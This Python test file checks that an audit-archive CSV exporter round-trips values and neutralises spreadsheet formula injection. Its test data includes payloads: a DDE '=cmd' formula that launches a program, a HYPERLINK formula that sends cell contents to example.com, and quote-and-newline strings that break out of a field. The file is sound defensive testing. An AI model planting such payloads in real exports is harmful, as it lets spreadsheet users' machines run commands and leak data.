"""CSV: what is written is read again, and no spreadsheet runs it."""

import csv
import io
import json
from base64 import b64encode
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from audit_archive.format.canonical import canonical_bytes, source_line
from audit_archive.retrieve.formats import COLUMNS, CSV_COLUMNS, HEADER, csv_row, harmless

VALUES = st.recursive(
    st.one_of(st.text(max_size=8), st.none(), st.booleans(), st.integers(-9, 9)),
    lambda inner: st.lists(inner, max_size=2) | st.dictionaries(st.text(max_size=3), inner, max_size=2),
    max_leaves=4,
)
STARTS = st.sampled_from(
    ["", "=", "+", "-", "@", "'", "\t", "\r", "\n", " ", "\u3000", "\uff1d", '"', "\x00", "''="]
)
ENTRIES = st.dictionaries(
    st.sampled_from([*CSV_COLUMNS, "new_field", "=1+1"]),
    st.one_of(VALUES, st.builds("{}{}".format, STARTS, st.text())),
)


def read(row: bytes) -> list[str]:
    """The cells of one row, by the standard library."""
    (cells,) = csv.reader(io.StringIO(row.decode(), newline=""), strict=True)
    return cells


def value(cell: str) -> str:
    """What was in a cell before it was made harmless."""
    return cell.removeprefix("'") if cell.startswith("'") else cell


def told(entry_value: Any) -> str:
    """A value as text, by the standard library."""
    if entry_value is None:
        return ""
    if isinstance(entry_value, str):
        return entry_value
    return json.dumps(entry_value, ensure_ascii=False, separators=(",", ":"), sort_keys=True)


@settings(max_examples=60, deadline=None)
@given(ENTRIES, st.integers(1, 3))
def test_every_value_is_read_again(fields: dict[str, Any], epoch: int) -> None:
    entry = {"id": 7, **{name: v for name, v in fields.items() if name != "id"}}
    row = csv_row(canonical_bytes(entry), epoch)
    assert row.endswith(b'"\r\n')
    cells = dict(zip(COLUMNS, map(value, read(row)), strict=True))
    assert cells.pop("epoch") == str(epoch)
    others = {name: v for name, v in entry.items() if name not in CSV_COLUMNS}
    assert cells.pop("other_fields") == told(others or None)
    assert cells == {name: told(entry.get(name)) for name in CSV_COLUMNS}


@settings(max_examples=60, deadline=None)
@given(ENTRIES)
def test_no_cell_begins_as_a_formula_does(fields: dict[str, Any]) -> None:
    for cell in read(csv_row(canonical_bytes({"id": 7} | fields), 1)):
        first = cell.lstrip().lstrip("\x00 \t\r\n")[:1]
        assert first not in {"=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"} or cell[0] == "'"
        assert cell[:1] not in {"\t", "\r", "\n", "\x00"}


@pytest.mark.parametrize(
    "attack",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://example.com?x="&A1,"click")',
        "+1+1",
        "-2+3",
        "@SUM(1+1)",
        "  =1+1",
        "\t=1+1",
        "\u00a0=1+1",
        "\uff1d1+1",
        "'=1+1",
        "\r\n=1+1",
    ],
)
def test_an_attacker_chooses_his_user_agent(attack: str) -> None:
    assert harmless(attack) == f"'{attack}"


@pytest.mark.parametrize(
    "text", ["", "alice@example.com", "2026-11-20", "a=b", 'say "hi"', "10.0.0.1", "é", "  x"]
)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_a_cell_can_t_be_left_by_quotes_and_separators() -> None:
    agent = 'x","=1+1","\r\n"=2+2'
    row = csv_row(canonical_bytes({"id": 7, "user_browser_agent": agent}), 1)
    assert read(row)[COLUMNS.index("user_browser_agent")] == agent


def test_the_source_form_is_read_as_far_as_it_can_be_and_kept_whole() -> None:
    source = '{"id":7,"user":"=\\ud800","user_ip":1e999,"additional_information":{"a":[NaN]},"message":null}'
    cells = dict(zip(COLUMNS, read(csv_row(source_line(source.encode(), 7), 2)), strict=True))
    assert (cells["epoch"], cells["id"], cells["user"], cells["user_ip"]) == ("2", "7", "'=\ufffd", "")
    assert cells["additional_information"] == ""
    assert json.loads(cells["other_fields"]) == {"_source": source}


def test_a_source_with_bad_bytes_is_read_as_far_as_it_can_be_and_kept_whole() -> None:
    source = b'{"id":7,"user":"=\xff\x01","user_ip":"192.0.2.7","message":"x\ny"}'
    cells = dict(zip(COLUMNS, read(csv_row(source_line(source, 7), 2)), strict=True))
    assert (cells["user"], cells["user_ip"], cells["message"]) == ("'=\ufffd\x01", "192.0.2.7", "x\ny")
    assert json.loads(cells["other_fields"]) == {"_source_base64": b64encode(source).decode()}


def test_the_header_names_the_columns() -> None:
    assert read(HEADER) == list(COLUMNS)
